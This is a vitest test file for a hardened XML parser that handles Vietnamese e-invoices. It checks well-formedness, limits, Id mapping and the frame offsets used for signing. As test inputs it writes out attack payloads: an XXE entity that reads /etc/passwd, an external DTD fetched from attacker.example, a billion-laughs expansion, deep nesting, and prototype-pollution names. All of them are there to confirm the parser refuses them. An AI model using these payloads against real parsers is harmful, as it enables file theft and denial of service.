/**
 * The hardened XML parse (src/xml/parse.ts): what is accepted, what is refused and with which
 * code (XML_MALFORMED: not well-formed / not UTF-8; XML_FORBIDDEN_CONSTRUCT: DOCTYPE, entities,
 * comments, processing instructions, limits), always as a result and never as an exception;
 * the Id map; and the frame offsets that the stamping splices bytes with.
 */
import { describe, expect, it } from "vitest";
import { DEFAULT_LIMITS, type ParsedXml, type ParseLimits, parseXml, prescan, textOf } from "../../src/xml/parse.js";

type Code = "XML_MALFORMED" | "XML_FORBIDDEN_CONSTRUCT";
const MALFORMED: Code = "XML_MALFORMED";
const FORBIDDEN: Code = "XML_FORBIDDEN_CONSTRUCT";

const bytes = (...parts: (string | number[])[]): Uint8Array =>
  new Uint8Array(parts.flatMap((p) => (typeof p === "string" ? [...Buffer.from(p, "utf8")] : p)));

/** Parses as HDon, expecting success; fails the test with the faults otherwise. */
function parsed(input: string | Uint8Array, limits?: ParseLimits): ParsedXml {
  const r = parseXml(input, "HDon", limits);
  if (!r.ok) throw new Error(`expected to parse, got ${JSON.stringify(r.faults)}`);
  return r.value;
}

/** Parses as HDon, expecting a refusal with `code` (and no exception); returns the first fault's message. */
function refused(input: string | Uint8Array, code: Code, limits?: ParseLimits): string {
  let r: ReturnType<typeof parseXml> | undefined;
  expect(() => {
    r = parseXml(input, "HDon", limits);
  }).not.toThrow();
  if (!r || r.ok) throw new Error(`expected ${code}, but it parsed`);
  expect(r.faults.length).toBeGreaterThan(0);
  expect(r.faults[0]!.code, r.faults[0]!.message).toBe(code);
  return r.faults[0]!.message;
}

/** Refused both as a string and as UTF-8 bytes. */
function refusedBoth(text: string, code: Code, limits?: ParseLimits): void {
  refused(text, code, limits);
  refused(bytes(text), code, limits);
}

/** An HDon whose innermost element sits `levels` deep (HDon itself is level 1). */
const nested = (levels: number, inner = "x") => "<HDon>" + "<a>".repeat(levels - 1) + inner + "</a>".repeat(levels - 1) + "</HDon>";

const limits = (over: Partial<ParseLimits>): ParseLimits => ({ ...DEFAULT_LIMITS, ...over });

describe("accepted", () => {
  it("parses a document with an XML declaration naming UTF-8", () => {
    for (const decl of ['<?xml version="1.0" encoding="UTF-8"?>', "<?xml version='1.0' encoding='utf-8' standalone='yes'?>", '<?xml version="1.0"?>']) {
      const p = parsed(bytes(`${decl}\n<HDon><A>x</A></HDon>`));
      expect(p.root.localName).toBe("HDon");
      expect(p.text.startsWith(decl)).toBe(true);
    }
  });

  it("drops a UTF-8 byte-order mark, as bytes and as a string, with or without a declaration", () => {
    for (const body of ["<HDon><A>đồng</A></HDon>", '<?xml version="1.0" encoding="UTF-8"?><HDon><A>đồng</A></HDon>']) {
      const fromBytes = parsed(bytes([0xef, 0xbb, 0xbf], body));
      expect(fromBytes.text).toBe(body);
      const fromString = parsed("\uFEFF" + body);
      expect(fromString.text).toBe(body);
      expect(textOf(fromBytes.root.getElementsByTagName("A")[0]!)).toBe("đồng");
    }
  });

  it("keeps CDATA content as text, markup-like characters included", () => {
    const inside = "a < b && c > d <!-- not a comment --> <!DOCTYPE x> &ent; <?pi?>";
    const p = parsed(`<HDon><A><![CDATA[${inside}]]></A></HDon>`);
    expect(textOf(p.root.getElementsByTagName("A")[0]!)).toBe(inside);
  });

  it("decodes the predefined entities and character references, in text and attributes", () => {
    const p = parsed('<HDon><A t="&#x1EA0;&#7840;&amp;&quot;">&lt;&gt;&amp;&quot;&apos;&#x1EA0;&#7840;&#x1F600;</A></HDon>');
    const a = p.root.getElementsByTagName("A")[0]!;
    expect(textOf(a)).toBe("<>&\"'ẠẠ😀");
    expect(a.getAttribute("t")).toBe('ẠẠ&"');
  });

  it("accepts namespaces: a prefixed ds:Signature, a default namespace below the root, and undeclaring it", () => {
    const xml =
      '<HDon><DSCKS><NBan><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo/></ds:Signature></NBan>' +
      '<CQT><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo/></Signature></CQT></DSCKS>' +
      '<TTKhac xmlns="urn:example:x"><Inner xmlns=""/></TTKhac></HDon>';
    const p = parsed(xml);
    expect(p.signatures).toHaveLength(2);
    expect(p.signatures.map((s) => s.parentNode!.nodeName).sort()).toEqual(["CQT", "NBan"]);
    expect(p.signatures.every((s) => s.namespaceURI === "http://www.w3.org/2000/09/xmldsig#")).toBe(true);
    expect(p.root.getElementsByTagName("Inner")[0]!.namespaceURI).toBeNull();
  });

  it("finds only Signature elements in the XML-DSig namespace", () => {
    const p = parsed('<HDon><Signature/><x:Signature xmlns:x="urn:not-dsig"/></HDon>');
    expect(p.signatures).toEqual([]);
  });

  it("parses a 10,000-digit number as plain text", () => {
    const digits = "9".repeat(10_000);
    const p = parsed(`<HDon><TgTTTBSo>${digits}</TgTTTBSo></HDon>`);
    expect(textOf(p.root.getElementsByTagName("TgTTTBSo")[0]!)).toBe(digits);
  });

  it("accepts Vietnamese text and four-byte UTF-8 characters given as bytes", () => {
    const p = parsed(bytes("<HDon><Ten>CÔNG TY TNHH HÓA ĐƠN 𠀀</Ten></HDon>"));
    expect(textOf(p.root.getElementsByTagName("Ten")[0]!)).toBe("CÔNG TY TNHH HÓA ĐƠN 𠀀");
  });

  it("accepts nesting exactly at the depth limit (64)", () => {
    expect(DEFAULT_LIMITS.maxDepth).toBe(64);
    expect(parsed(nested(64)).root.localName).toBe("HDon");
  });

  it("accepts exactly the attribute limit (32) on one element", () => {
    expect(DEFAULT_LIMITS.maxAttributes).toBe(32);
    const attrs = Array.from({ length: 32 }, (_, i) => ` a${i}="${i}"`).join("");
    expect(parsed(`<HDon${attrs}/>`).root.attributes.length).toBe(32);
  });

  it("refuses another root name, and a root in a namespace (XML_MALFORMED)", () => {
    refused("<TDiep/>", MALFORMED);
    refused('<HDon xmlns="urn:x"/>', MALFORMED);
    refused('<p:HDon xmlns:p="urn:x"/>', MALFORMED);
  });
});

describe("forbidden constructs (XML_FORBIDDEN_CONSTRUCT)", () => {
  it("refuses a DOCTYPE, even an empty one", () => {
    refusedBoth("<!DOCTYPE HDon><HDon/>", FORBIDDEN);
    refusedBoth('<?xml version="1.0"?>\n<!DOCTYPE HDon SYSTEM "http://example.com/hdon.dtd"><HDon/>', FORBIDDEN);
  });

  it("refuses an internal entity and its use", () => {
    refusedBoth('<!DOCTYPE HDon [<!ENTITY a "x">]><HDon>&a;</HDon>', FORBIDDEN);
  });

  it("refuses an external entity (XXE) and a parameter entity", () => {
    refusedBoth('<!DOCTYPE HDon [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><HDon>&xxe;</HDon>', FORBIDDEN);
    refusedBoth('<!DOCTYPE HDon [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><HDon/>', FORBIDDEN);
  });

  it("refuses the billion laughs", () => {
    const lol = [
      '<!ENTITY lol "lol">',
      ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`),
    ].join("");
    refusedBoth(`<?xml version="1.0"?><!DOCTYPE HDon [${lol}]><HDon>&lol9;</HDon>`, FORBIDDEN);
  });

  it("refuses the flat variant: many references to an undeclared entity, no DOCTYPE", () => {
    refusedBoth("<HDon>" + "&a;".repeat(100_000) + "</HDon>", FORBIDDEN);
    refusedBoth('<HDon t="' + "&a;".repeat(10_000) + '"/>', FORBIDDEN);
  });

  it("refuses an entity declaration inside the root", () => {
    refusedBoth('<HDon><!ENTITY a "x"></HDon>', FORBIDDEN);
  });

  it("refuses a comment before, inside and after the root, and an unterminated one", () => {
    refusedBoth("<!-- c --><HDon/>", FORBIDDEN);
    refusedBoth("<HDon><A><!-- c -->x</A></HDon>", FORBIDDEN);
    refusedBoth("<HDon/><!-- c -->", FORBIDDEN);
    refusedBoth("<HDon><!-- c </HDon>", FORBIDDEN);
  });

  it("refuses a processing instruction inside the root, after it, and after the declaration", () => {
    refusedBoth("<HDon><?php echo 1; ?></HDon>", FORBIDDEN);
    refusedBoth("<HDon/><?pi x?>", FORBIDDEN);
    refusedBoth('<?xml version="1.0"?><?xml-stylesheet href="a.xsl"?><HDon/>', FORBIDDEN);
  });

  it("refuses a processing instruction at the very start of the document (not an XML declaration)", () => {
    // api.md: a processing instruction is XML_FORBIDDEN_CONSTRUCT; `<?xml-stylesheet` is one, not a malformed declaration.
    refusedBoth('<?xml-stylesheet type="text/xsl" href="a.xsl"?><HDon/>', FORBIDDEN);
  });

  it("refuses a second XML declaration, or one that is not at the start", () => {
    for (const text of ['<?xml version="1.0"?><?xml version="1.0"?><HDon/>', ' <?xml version="1.0"?><HDon/>', '<HDon><?xml version="1.0"?></HDon>']) {
      const r = parseXml(text, "HDon");
      expect(r.ok, text).toBe(false);
      if (!r.ok) expect([MALFORMED, FORBIDDEN]).toContain(r.faults[0]!.code);
    }
  });

  it("refuses nesting one level deeper than the limit (65 > 64)", () => {
    expect(refused(nested(65), FORBIDDEN)).toMatch(/64/);
  });

  it("refuses a deeply nested document far beyond the limit without an exception", () => {
    refused(nested(100_000), FORBIDDEN);
  });

  it("refuses 33 attributes on one element (limit 32)", () => {
    const attrs = Array.from({ length: 33 }, (_, i) => ` a${i}="${i}"`).join("");
    refusedBoth(`<HDon><A${attrs}/></HDon>`, FORBIDDEN);
  });

  it("applies custom depth and attribute limits", () => {
    expect(parsed(nested(3), limits({ maxDepth: 3 })).root.localName).toBe("HDon");
    refused(nested(4), FORBIDDEN, limits({ maxDepth: 3 }));
    expect(parsed('<HDon a="1" b="2"/>', limits({ maxAttributes: 2 })).root.localName).toBe("HDon");
    refused('<HDon a="1" b="2" c="3"/>', FORBIDDEN, limits({ maxAttributes: 2 }));
  });

  it("refuses more elements than the node limit, and accepts exactly the limit", () => {
    const doc = (children: number) => "<HDon>" + "<a/>".repeat(children) + "</HDon>";
    expect(parsed(doc(9), limits({ maxNodes: 10 })).root.childNodes.length).toBe(9);
    expect(refused(doc(10), FORBIDDEN, limits({ maxNodes: 10 }))).toMatch(/10/);
    refused(doc(10_000), FORBIDDEN, limits({ maxNodes: 1000 }));
  });

  it("refuses more attributes and namespace declarations in the document than its limit (20,000), and accepts exactly the limit", () => {
    expect(DEFAULT_LIMITS.maxDocumentAttributes).toBe(20_000);
    // 625 elements of 32 attributes: 20,000 exactly; one declaration more is one too many.
    const el = `<a${Array.from({ length: 32 }, (_, i) => ` a${i}="${i}"`).join("")}/>`;
    expect(parsed(`<HDon>${el.repeat(625)}</HDon>`).root.childNodes.length).toBe(625);
    refusedBoth(`<HDon xmlns:p="urn:p">${el.repeat(625)}</HDon>`, FORBIDDEN);
    expect(refused(`<HDon><b x="1"/>${el.repeat(625)}</HDon>`, FORBIDDEN)).toMatch(/20000 attributes and namespace declarations/);
    refused('<HDon a="1"><b b="2" xmlns:c="urn:c"/></HDon>', FORBIDDEN, limits({ maxDocumentAttributes: 2 }));
    expect(parsed('<HDon a="1"><b b="2"/></HDon>', limits({ maxDocumentAttributes: 2 })).root.localName).toBe("HDon");
  });

  it("refuses more Id attributes in the document than its limit (10,000: Id, ID, id under any prefix, xml:id), and accepts exactly the limit", () => {
    expect(DEFAULT_LIMITS.maxIds).toBe(10_000);
    const ids = (n: number, name = "Id") => Array.from({ length: n }, (_, i) => `<a ${name}="i${i}"/>`).join("");
    expect(parsed(`<HDon>${ids(10_000)}</HDon>`).ids.size).toBe(10_000);
    expect(refused(`<HDon>${ids(10_001)}</HDon>`, FORBIDDEN)).toMatch(/10000 Id attributes/);
    for (const name of ["ID", "id", "xml:id"]) refused(`<HDon Id="x">${ids(10_000, name)}</HDon>`, FORBIDDEN);
    refused('<HDon xmlns:w="urn:w"><a w:Id="1"/><b id="2"/></HDon>', FORBIDDEN, limits({ maxIds: 1 }));
    // Other attributes are not Ids, whatever their value.
    expect(parsed('<HDon><a Id="1"/><b Ref="2" Idx="3"/></HDon>', limits({ maxIds: 1 })).ids.size).toBe(1);
  });

  it("refuses a namespace URI that is not absolute", () => {
    refused('<HDon xmlns:a="foo"><a:x/></HDon>', FORBIDDEN);
    refused('<HDon><x xmlns="relative/path"/></HDon>', FORBIDDEN);
  });

  it("refuses a forbidden construct in prescan alone, before any DOM is built", () => {
    for (const [text, code] of [
      ["<!DOCTYPE HDon><HDon/>", FORBIDDEN],
      ["<HDon>&a;</HDon>", FORBIDDEN],
      ["<HDon><!-- c --></HDon>", FORBIDDEN],
      ["<HDon><?pi?></HDon>", FORBIDDEN],
      [nested(65), FORBIDDEN],
      ["<HDon/><HDon/>", MALFORMED],
      ["<HDon>\u0001</HDon>", MALFORMED],
    ] as const) {
      const r = prescan(text);
      expect(r.ok, text.slice(0, 40)).toBe(false);
      if (!r.ok) expect(r.faults[0]!.code, text.slice(0, 40)).toBe(code);
    }
  });
});

describe("not well-formed (XML_MALFORMED)", () => {
  it("refuses two root elements", () => {
    refusedBoth("<HDon/><HDon/>", MALFORMED);
    refusedBoth("<HDon></HDon><Other/>", MALFORMED);
  });

  it("refuses text before or after the root, and an empty document", () => {
    refusedBoth("junk<HDon/>", MALFORMED);
    refusedBoth("<HDon/>junk", MALFORMED);
    refusedBoth("<HDon/>&amp;", MALFORMED);
    refusedBoth("<![CDATA[x]]><HDon/>", MALFORMED);
    refusedBoth("", MALFORMED);
    refusedBoth("   \n ", MALFORMED);
  });

  it("refuses mismatched and unclosed tags, and a stray end tag", () => {
    refusedBoth("<HDon><a></b></HDon>", MALFORMED);
    refusedBoth("<HDon></HDoX>", MALFORMED);
    refusedBoth("<HDon><a></HDon>", MALFORMED);
    refusedBoth("<HDon>", MALFORMED);
    refusedBoth("<HDon></HDon></HDon>", MALFORMED);
  });

  it("refuses a duplicate attribute", () => {
    refusedBoth('<HDon a="1" a="2"/>', MALFORMED);
    refusedBoth('<HDon><DLHDon Id="a" Id="b"/></HDon>', MALFORMED);
  });

  it("refuses an unquoted attribute value", () => {
    refusedBoth("<HDon a=1/>", MALFORMED);
    refusedBoth("<HDon><A Id=x>t</A></HDon>", MALFORMED);
  });

  it("refuses a bare '&' and '<' inside an attribute value", () => {
    refusedBoth("<HDon>a & b</HDon>", MALFORMED);
    refusedBoth('<HDon a="x<y"/>', MALFORMED);
  });

  it("refuses character references to characters XML does not allow", () => {
    for (const ref of ["&#0;", "&#x0;", "&#xD800;", "&#xDFFF;", "&#55296;", "&#x1;", "&#xFFFE;", "&#xFFFF;", "&#x110000;"]) {
      refused(`<HDon>${ref}</HDon>`, MALFORMED);
      refused(`<HDon a="${ref}"/>`, MALFORMED);
    }
  });

  it("refuses control characters, as text and as bytes", () => {
    for (const c of ["\u0000", "\u0001", "\u0008", "\u000B", "\u000C", "\u001B", "\u001F", "\uFFFE", "\uFFFF"]) {
      refused(`<HDon>a${c}b</HDon>`, MALFORMED);
      refused(bytes(`<HDon a="${c}"/>`), MALFORMED);
    }
  });

  it("refuses any declared encoding other than UTF-8, even when the bytes are ASCII", () => {
    refusedBoth('<?xml version="1.0" encoding="ISO-8859-1"?><HDon/>', MALFORMED);
    refusedBoth('<?xml version="1.0" encoding="UTF-16"?><HDon/>', MALFORMED);
    refusedBoth('<?xml version="1.0" encoding="windows-1258"?><HDon/>', MALFORMED);
  });

  it("refuses bytes that are not UTF-8: a stray byte, an overlong form, an encoded surrogate, a cut sequence, UTF-16", () => {
    refused(bytes("<HDon>", [0xff], "</HDon>"), MALFORMED);
    refused(bytes("<HDon>", [0xe9], "</HDon>"), MALFORMED); // é in Latin-1
    refused(bytes("<HDon>", [0xc0, 0xaf], "</HDon>"), MALFORMED);
    refused(bytes("<HDon>", [0xed, 0xa0, 0x80], "</HDon>"), MALFORMED);
    refused(bytes("<HDon>", [0xe1, 0xba], "</HDon>"), MALFORMED);
    refused(new Uint8Array([0xff, 0xfe, ...Buffer.from("<HDon/>", "utf16le")]), MALFORMED);
  });

  it("refuses a malformed XML declaration", () => {
    refusedBoth('<?xml version="2.0"?><HDon/>', MALFORMED);
    refusedBoth("<?xml encoding='UTF-8'?><HDon/>", MALFORMED);
  });

  it("takes only XML's white space (space, tab, CR, LF) between the declaration's parts, not Unicode's other spaces", () => {
    // Found by the submission fuzzer: a NBSP after version="1.0" was accepted, which @xmldom,
    // libxml2 and every other XML parser refuse. The declaration is outside the signed data, so
    // no signature was at stake; the gate must still read the document as everyone else does.
    for (const sp of ["\u00A0", "\u2028", "\u2029", "\u0085", "\u3000", "\uFEFF", "\u1680", "\u202F"]) {
      refusedBoth(`<?xml version="1.0"${sp} encoding="UTF-8"?><HDon/>`, MALFORMED);
      refusedBoth(`<?xml version="1.0"${sp}encoding="UTF-8"?><HDon/>`, MALFORMED);
      refusedBoth(`<?xml version="1.0" encoding="UTF-8"${sp}?><HDon/>`, MALFORMED);
      refusedBoth(`<?xml version${sp}="1.0"?><HDon/>`, MALFORMED);
      // Not `<?xml` and white space: a processing instruction, refused as every one is.
      refusedBoth(`<?xml${sp}version="1.0"?><HDon/>`, FORBIDDEN);
    }
    for (const sp of [" ", "\t", "\r\n", "\n  "]) parsed(`<?xml${sp}version${sp}=${sp}"1.0"${sp}encoding="UTF-8"${sp}standalone='no'${sp}?><HDon/>`);
  });
});

describe("no prototype pollution", () => {
  it("parses __proto__, constructor and prototype as element and attribute names without touching Object.prototype", () => {
    const p = parsed(
      '<HDon><__proto__ polluted="yes"><constructor prototype="yes"><prototype polluted="yes">x</prototype></constructor></__proto__>' +
        '<A __proto__="yes" constructor="yes"/></HDon>',
    );
    expect(p.root.getElementsByTagName("__proto__")).toHaveLength(1);
    expect(p.root.getElementsByTagName("prototype")[0]!.getAttribute("polluted")).toBe("yes");
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype.hasOwnProperty.call(Object.prototype, "polluted")).toBe(false);
    expect(typeof ({} as { constructor: unknown }).constructor).toBe("function");
  });

  it("keeps __proto__ and constructor as ordinary Id values", () => {
    const p = parsed('<HDon><A Id="__proto__"/><B Id="constructor"/><C Id="__proto__"/></HDon>');
    expect(p.ids.get("__proto__")!.localName).toBe("A");
    expect(p.ids.get("constructor")!.localName).toBe("B");
    expect(p.duplicateIds).toEqual(["__proto__"]);
    expect(({} as Record<string, unknown>).localName).toBeUndefined();
  });
});

describe("Id attributes", () => {
  it("maps every Id, ID, id and xml:id value to its element", () => {
    const p = parsed('<HDon><DLHDon Id="data"/><A ID="upper"/><B id="lower"/><C xml:id="xml"/></HDon>');
    expect([...p.ids.keys()].sort()).toEqual(["data", "lower", "upper", "xml"]);
    expect(p.ids.get("data")!.localName).toBe("DLHDon");
    expect(p.ids.get("xml")!.localName).toBe("C");
    expect(p.duplicateIds).toEqual([]);
  });

  it("reports a value used twice across Id, ID, id and xml:id in duplicateIds, once each", () => {
    const p = parsed('<HDon><DLHDon Id="x"/><A ID="x"/><B id="y"/><C xml:id="y"/><D Id="x"/><E Id="z"/></HDon>');
    expect([...p.duplicateIds].sort()).toEqual(["x", "y"]);
    expect(p.ids.get("x")!.localName).toBe("DLHDon");
  });

  it("reports a duplicate between an element and the signature inside it", () => {
    const p = parsed('<HDon><DLHDon Id="SigningData"/><DSCKS><NBan><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><Object Id="SigningData"/></Signature></NBan></DSCKS></HDon>');
    expect(p.duplicateIds).toEqual(["SigningData"]);
  });

  it("does not take other attributes (IdRef, Ids) as Ids", () => {
    const p = parsed('<HDon xmlns:p="urn:x"><A IdRef="a"/><B Ids="a"/><C p:Idx="a"/></HDon>');
    expect(p.ids.size).toBe(0);
  });

  it("takes a prefixed Id (p:Id, wsu:Id) as an Id, since xml-crypto resolves References by local name", () => {
    const p = parsed('<HDon xmlns:p="urn:x"><DLHDon Id="a"/><C p:Id="a"/></HDon>');
    expect(p.duplicateIds).toEqual(["a"]);
  });
});

describe("the frame", () => {
  const doc =
    '<?xml version="1.0" encoding="UTF-8"?>\n' +
    '<HDon note="a>b" q=\'c"d\'>\n' +
    '  <DLHDon Id="data"><TTChung><PBan>2.1.0</PBan></TTChung><X><![CDATA[</DLHDon>]]></X></DLHDon>\n' +
    '  <DLQRCode v="x/y"/>\n' +
    "  <MCCQT Id=\"c\">00AB</MCCQT>\n" +
    '  <DSCKS><NBan><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/></NBan></DSCKS>\n' +
    "</HDon>\n";

  it("gives offsets that slice the root's start tag, end tag and each child exactly", () => {
    const p = parsed(doc);
    const { frame, text } = p;
    expect(text).toBe(doc);
    expect(text.slice(0, frame.rootOpenEnd).endsWith(`<HDon note="a>b" q='c"d'>`)).toBe(true);
    expect(text.slice(frame.rootCloseStart)).toBe("</HDon>\n");
    expect(frame.children.map((c) => c.name)).toEqual(["DLHDon", "DLQRCode", "MCCQT", "DSCKS"]);
    const slices = frame.children.map((c) => text.slice(c.start, c.end));
    expect(slices).toEqual([
      '<DLHDon Id="data"><TTChung><PBan>2.1.0</PBan></TTChung><X><![CDATA[</DLHDon>]]></X></DLHDon>',
      '<DLQRCode v="x/y"/>',
      '<MCCQT Id="c">00AB</MCCQT>',
      '<DSCKS><NBan><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/></NBan></DSCKS>',
    ]);
    // Between the children there is only the whitespace of the original.
    expect(text.slice(frame.rootOpenEnd, frame.children[0]!.start)).toBe("\n  ");
    expect(text.slice(frame.children[3]!.end, frame.rootCloseStart)).toBe("\n");
  });

  it("counts offsets in the decoded text without the byte-order mark, and after multi-byte characters", () => {
    const withUnicode = "<HDon><A>Hóa đơn điện tử</A><B/></HDon>";
    const p = parsed(bytes([0xef, 0xbb, 0xbf], withUnicode));
    expect(p.text.slice(p.frame.children[0]!.start, p.frame.children[0]!.end)).toBe("<A>Hóa đơn điện tử</A>");
    expect(p.text.slice(p.frame.children[1]!.start, p.frame.children[1]!.end)).toBe("<B/>");
    expect(p.text.slice(p.frame.rootCloseStart)).toBe("</HDon>");
  });

  it("ignores grandchildren with the same names as children", () => {
    const p = parsed("<HDon><A><A/><B></B></A><B/></HDon>");
    expect(p.frame.children.map((c) => [c.name, p.text.slice(c.start, c.end)])).toEqual([
      ["A", "<A><A/><B></B></A>"],
      ["B", "<B/>"],
    ]);
  });

  it("is what prescan returns on its own", () => {
    const r = prescan(doc);
    expect(r.ok).toBe(true);
    if (r.ok) expect(r.value).toEqual(parsed(doc).frame);
  });
});

describe("XML version", () => {
  it("refuses an XML 1.1 declaration, whose rules (characters, line ends) the verifiers would read differently (XML_MALFORMED)", () => {
    const r = parseXml('<?xml version="1.1" encoding="UTF-8"?><HDon/>', "HDon");
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.faults[0]!.code).toBe("XML_MALFORMED");
    expect(parseXml('<?xml version="1.0" encoding="UTF-8"?><HDon/>', "HDon").ok).toBe(true);
  });
});
